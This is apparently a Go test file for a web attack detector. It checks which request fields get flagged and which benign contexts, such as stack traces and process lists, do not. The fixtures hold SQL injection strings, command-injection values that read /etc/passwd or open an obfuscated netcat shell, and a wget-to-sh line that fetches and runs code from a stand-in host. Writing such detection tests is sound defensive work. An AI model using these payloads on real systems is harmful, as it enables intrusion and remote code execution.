package detect

import (
	"testing"

	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/parse"
	"github.com/weirnode/weir/point"
)

func TestSourceInReports(t *testing.T) {
	const source, grave = `el.innerHTML = items.map(i => "<li>" + i + "</li>").join("")`, "1' union select 1,2,password from users-- -"
	for _, test := range []struct {
		names []string
		data  string
		clean bool
	}{
		{[]string{"exception", "frames", "post_context"}, source, true},
		{[]string{"exceptions", "stacktrace", "code", "3"}, source, true},
		{[]string{"csp-report", "script-sample"}, "document.write('<scr", true},
		{[]string{"csp-report", "script-sample"}, "eval('a'); document.write(\"<s", true},
		{[]string{"sample"}, "eval('a'); document.write(\"<s", false},
		{[]string{"trace", "frames", "code"}, "document.cookie='a='+b;", true},
		{[]string{"breadcrumbs", "message"}, "it's undefined; eval('x')", true},
		{[]string{"code"}, "document.cookie='a='+b;", false},
		{[]string{"exception", "stacktrace"}, grave, false},
		{[]string{"columns", "cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", true},
		{[]string{"cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", false},
		{[]string{"process", "cmdline"}, "/bin/sh -c /usr/lib/apt/apt.systemd.daily", true},
		{[]string{"job", "cmdline"}, "192.0.2.7;id", false},
		{[]string{"log", "file", "path"}, "/var/log/auth.log", true},
		{[]string{"file", "path"}, "/var/log/auth.log", false},
		{[]string{"stream", "filename"}, "/var/log/nginx/access.log", true},
		{[]string{"filename"}, "/var/log/nginx/access.log", false},
		{[]string{"comment", "text"}, source, false},
	} {
		var tree point.Tree
		ref := tree.Add(0, point.Post)
		for _, name := range test.names {
			ref = tree.AddName(ref, point.Hash, []byte(name))
		}
		values := []point.Value{value(ref, test.data)}
		values[0].Kind = point.Text
		var s Scanner
		Default().Scan(&s, &tree, values, 1, &Options{Score: evidence.Threshold})
		if clean := len(s.Findings) == 0; clean != test.clean {
			t.Errorf("%v %q: findings %+v", test.names, test.data, s.Findings)
		}
	}
}

// TestDescriptionsOfPrograms reads commands where descriptions have them, and where they do not.
func TestDescriptionsOfPrograms(t *testing.T) {
	f := func(body string, clean bool) {
		t.Helper()
		var p parse.Points
		p.Body(&parse.Request{Body: []byte(body), Fields: []parse.Field{{Name: []byte("Content-Type"), Value: []byte("application/json")}}}, &parse.Options{})
		var s Scanner
		Default().Scan(&s, &p.Tree, p.Values, len(p.Values), &Options{Score: evidence.Threshold})
		if (len(s.Findings) == 0) != clean {
			t.Errorf("%s: findings %+v", body, s.Findings)
		}
	}
	f(`{"name":"k","scripts":{"build":"tshy && bash scripts/build.sh"}}`, true)
	f(`{"versions":{"1.0.0":{"scripts":{"build":"tsup src && cp -r assets dist/"}}}}`, true)
	f(`{"spec":{"containers":[{"command":["/bin/sh","-c"],"args":["./migrate && exec ./server --port 8080"]}]}}`, true)
	f(`{"job":{"scripts":{"build":"tshy && bash scripts/build.sh"}}}`, false)
	f(`{"args":["./migrate && exec ./server --port 8080"]}`, false)
}

func TestPasswordsThatProgramsMake(t *testing.T) {
	for _, test := range []struct {
		name, data string
		clean      bool
	}{
		{"password", "||&&9Pa;ss", true},
		{"user_passwd", "~`|{}[]\\:;\"'<>,.?/", true},
		{"password", "Myp@ss'w0rd\"#", true},
		{"pwd", "p@ss'w0rd\";--x&", true},
		{"password", "kQ7'&x#=4R", true},
		{"password", "kQ7'=3v#(9", true},
		{"password", "kQ7'|9)w&#", true},
		{"password", "kQ7'||(2)#", false},
		{"password", "kQ7$(id)Zx9!;", false},
		{"password", "9Kb;nc$IFS-e/b*/sh$IFS-l", false},
		{"password", "kQ7$(reboot)", false},
		{"password", "kQ7$;(id)Zx9!", true},
		{"password", "kQ7'&&!(0)#", false},
		{"password", "kQ7'OR(1)--", false},
		{"password", "Admin1'--", false},
		{"password", "Admin1'#", false},
		{"password", ";reboot", false},
		{"password", "x;cat /etc/passwd", false},
		{"password", "x' or '1'='1", false},
		{"host", "||&&9Pa;ss", false},
		{"password", "L_Tdd<t|w>$%(Y>W6vRu!PDpW8&ma^wK", true},
		{"password", "v9.^\"G)&ks;./]Kq7'#", true},
		{"password", "Q1!'or'A'='A'#b8~", false},
		{"password", "Q1!b8~;cat</etc/passwd#Kq7", false},
		{"login", "L_Tdd<t|w>$%(Y>W6vRu!PDpW8&ma^wK", false},
	} {
		var tree point.Tree
		values := []point.Value{value(tree.AddName(0, point.FormURLEncoded, []byte(test.name)), test.data)}
		values[0].Kind = point.Text
		var s Scanner
		Default().Scan(&s, &tree, values, 1, &Options{Score: evidence.Threshold})
		if clean := len(s.Findings) == 0; clean != test.clean {
			t.Errorf("%s=%q: findings %+v", test.name, test.data, s.Findings)
		}
	}
}

// TestWatchedPlaces reads a command where agents tell of processes, and where names are only alike.
func TestWatchedPlaces(t *testing.T) {
	const command = "192.0.2.7;wget http://h.example/k|sh"
	in := func(build func(tree *point.Tree) point.Ref) int {
		var tree point.Tree
		values := []point.Value{value(build(&tree), command)}
		values[0].Kind = point.Text
		var s Scanner
		Default().Scan(&s, &tree, values, 1, &Options{Score: evidence.Threshold})
		return len(s.Findings)
	}
	if in(func(tree *point.Tree) point.Ref {
		list := tree.AddName(tree.Add(0, point.JSONDoc), point.Hash, []byte("processes"))
		return tree.AddName(tree.AddIndex(list, point.Array, 0), point.Hash, []byte("cmdline"))
	}) > 0 {
		t.Error("found in a list of processes")
	}
	if in(func(tree *point.Tree) point.Ref {
		header := tree.AddName(0, point.Header, []byte("COOKIE"))
		return tree.AddName(header, point.Cookie, []byte("cmdline"))
	}) == 0 {
		t.Error("not found in a cookie")
	}
}
